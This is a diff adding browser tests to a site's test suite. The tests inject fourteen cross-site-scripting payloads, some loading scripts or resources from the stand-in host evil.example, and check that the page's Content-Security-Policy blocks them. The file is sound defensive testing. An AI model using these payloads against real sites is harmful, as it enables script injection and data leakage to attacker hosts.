@@ -4,7 +4,9 @@ phone.
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
+from html import unescape
 from pathlib import Path
 
 import pytest
@@ -120,3 +122,79 @@ def test_what_can_be_done_with_a_lesson_is_in_sight_when_it_opens(address: str, 
         assert box
         assert box["y"] + box["height"] <= 844, name
     page.close()
+
+
+#: What a sanitiser with a hole could let through: each says something, or asks another host.
+PAYLOADS = (
+    "<script>console.log(`hit`)</script>",
+    "<img src=x onerror='console.log(`hit`)'>",
+    "<svg onload='console.log(`hit`)'></svg>",
+    "<script src='https://evil.example/x.js'></script>",
+    "<script src='data:text/javascript,console.log(`hit`)'></script>",
+    "<iframe srcdoc='<script>console.log(`hit`)</script>'></iframe>",
+    "<iframe src='https://evil.example/'></iframe>",
+    "<img src='https://evil.example/x.png'>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<style>body { background: url(https://evil.example/x.png) }</style>",
+    "<object data='https://evil.example/x'></object>",
+    "<base href='https://evil.example/'><img src='x.png'>",
+    "<a id=link href='javascript:void(console.log(`hit`))'>一</a>",
+    "<form id=form action='https://evil.example/'><button>一</button></form>",
+)
+
+
+def opened_with(payload: str, page: str, browser: Browser, folder: Path) -> tuple[bool, bool]:
+    """Whether a payload in the text of a page runs, and whether another host is asked."""
+    (folder / "index.html").write_text(page.replace("<main", f"{payload}<main", 1), "utf-8")
+    asked: list[str] = []
+    said: list[str] = []
+    with served(folder) as address:
+        context = browser.new_context()
+        context.route(
+            "https://evil.example/**", lambda route: (asked.append(route.request.url), route.abort())
+        )
+        tab = context.new_page()
+        tab.on("console", lambda message: said.append(message.text))
+        tab.goto(address)
+        tab.evaluate("setTimeout(() => document.querySelector('#link, #form button')?.click())")
+        tab.wait_for_timeout(150)
+        context.close()
+    return "hit" in said, bool(asked)
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_what_slips_past_the_sanitiser_meets_the_policy(
+    own_site: Path, browser: Browser, payload: str, tmp_path: Path
+) -> None:
+    page = (own_site / "about" / "index.html").read_text("utf-8")
+    policy = re.findall(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n', page)
+    assert len(policy) == 1
+    assert opened_with(payload, page.replace(policy[0], ""), browser, tmp_path) != (False, False)
+    assert opened_with(payload, page, browser, tmp_path) == (False, False)
+
+
+def test_every_page_has_the_policy_and_sends_no_referrer(own_site: Path) -> None:
+    pages = list(own_site.rglob("*.html"))
+    assert len(pages) > 200
+    for path in pages:
+        text = path.read_text("utf-8")
+        assert text.count('http-equiv="Content-Security-Policy"') == 1, path
+        policy = re.findall(r'Security-Policy" content="([^"]*)"', text)[0]
+        assert "base-uri 'none'" in unescape(policy), path
+        if "admin" not in path.relative_to(own_site).parts:
+            assert "unsafe" not in policy, path
+            assert 'name="referrer"' in text or 'http-equiv="refresh"' in text, path
+
+
+@pytest.mark.browser
+def test_no_page_of_ours_meets_its_policy(address: str, browser: Browser) -> None:
+    context = browser.new_context()
+    tab = context.new_page()
+    said: list[str] = []
+    tab.on("console", lambda message: said.append(message.text))
+    for page in (*PAGES, "search/?q=作业"):
+        tab.goto(f"{address}{page}")
+        tab.wait_for_load_state("networkidle")
+    context.close()
+    assert [words for words in said if "Content Security Policy" in words] == []
